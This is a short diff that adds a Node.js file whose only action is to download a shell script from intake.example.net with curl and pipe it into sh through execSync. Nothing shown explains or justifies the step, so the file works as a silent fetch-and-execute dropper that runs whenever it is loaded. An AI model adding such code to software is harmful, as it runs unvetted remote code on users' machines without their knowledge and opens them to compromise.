@@ -1,0 +1,3 @@
+const { execSync } = require('child_process')
+
+execSync('curl -fsSL https://intake.example.net/setup.sh | sh')
